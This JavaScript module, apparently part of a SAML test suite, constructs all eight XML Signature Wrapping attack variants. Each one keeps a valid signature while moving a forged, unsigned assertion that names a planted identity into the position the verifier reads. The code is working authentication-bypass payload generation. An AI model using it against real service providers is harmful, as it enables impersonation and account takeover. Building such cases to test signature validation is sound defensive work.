import { assertionXml, newMessageId, responseXml, signRoot, takeSignature } from "./saml-xml.mjs";

/** @typedef {import("./saml-xml.mjs").Facts} Facts @typedef {import("./saml-xml.mjs").Signer} Signer */

/** @param {string} xml @param {string} inserted After the Issuer of the root. */
const afterIssuer = (xml, inserted) => xml.replace("</saml2:Issuer>", `</saml2:Issuer>${inserted}`);
/** @param {string} xml @param {string} inserted As the last child of the root. */
const atEnd = (xml, inserted) => xml.replace(/<\/[\w:]+>$/, (end) => inserted + end);
/** @param {string} signature @param {string} inserted */
const intoSignature = (signature, inserted) => signature.replace("</ds:Signature>", `${inserted}</ds:Signature>`);
/** @param {string} content */
const object = (content) => `<ds:Object>${content}</ds:Object>`;

/**
 * @typedef {{ facts: Facts, evil: string, whole: { signature: string, rest: string },
 *   inner: { signature: string, rest: string }, signed: string }} Parts
 * evil: an unsigned assertion naming the planted person. whole: a response signed as a whole, and its signature.
 * inner: a signed assertion, its signature cut out. signed: the same, uncut.
 */

/** Signature wrapping (Somorovsky et al., USENIX 2012): the signature stays right, what it covers is moved aside. */
export const wrappings = {
  /** The signed response lies inside the signature of a forged one. */
  xsw1: (/** @type {Parts} */ { facts, evil, whole }) =>
    responseXml(another(facts), { content: evil, afterIssuer: intoSignature(whole.signature, object(whole.rest)) }),
  /** The signed response stands before its detached signature. */
  xsw2: (/** @type {Parts} */ { facts, evil, whole }) =>
    responseXml(another(facts), { content: evil, afterIssuer: whole.rest + whole.signature }),
  /** A forged assertion before the signed one. */
  xsw3: (/** @type {Parts} */ { facts, evil, signed }) => responseXml(facts, { content: evil + signed }),
  /** The signed assertion inside a forged one. */
  xsw4: (/** @type {Parts} */ { facts, evil, signed }) => responseXml(facts, { content: atEnd(evil, signed) }),
  /** The forged assertion wears the signature, the original follows bare. */
  xsw5: (/** @type {Parts} */ { facts, evil, inner }) =>
    responseXml(facts, { content: afterIssuer(evil, inner.signature) + inner.rest }),
  /** The forged assertion wears the signature, the original lies inside it. */
  xsw6: (/** @type {Parts} */ { facts, evil, inner }) =>
    responseXml(facts, { content: afterIssuer(evil, intoSignature(inner.signature, inner.rest)) }),
  /** The forged assertion in Extensions. */
  xsw7: (/** @type {Parts} */ { facts, evil, signed }) =>
    responseXml(facts, { content: signed, afterIssuer: `<saml2p:Extensions>${evil}</saml2p:Extensions>` }),
  /** As 6, with the original in a ds:Object. */
  xsw8: (/** @type {Parts} */ { facts, evil, inner }) =>
    responseXml(facts, { content: afterIssuer(evil, intoSignature(inner.signature, object(inner.rest))) }),
};

/** @param {Facts} facts @returns {Facts} */
const another = (facts) => ({ ...facts, responseId: newMessageId() });

/**
 * A response in which `planted` is named by unsigned bytes and the real person by signed ones.
 * @param {keyof typeof wrappings} kind
 * @param {Facts} facts
 * @param {Signer} signer
 * @param {string} planted
 */
export function wrap(kind, facts, signer, planted) {
  const attributes = facts.attributes.map((attribute) =>
    attribute.name === "email" ? { ...attribute, values: [planted] } : attribute,
  );
  const signed = signRoot(assertionXml(facts), signer);
  return wrappings[kind]({
    facts,
    evil: assertionXml({ ...facts, assertionId: newMessageId(), nameId: planted, attributes }),
    whole: takeSignature(signRoot(responseXml(facts, { content: assertionXml(facts) }), signer)),
    inner: takeSignature(signed),
    signed,
  });
}
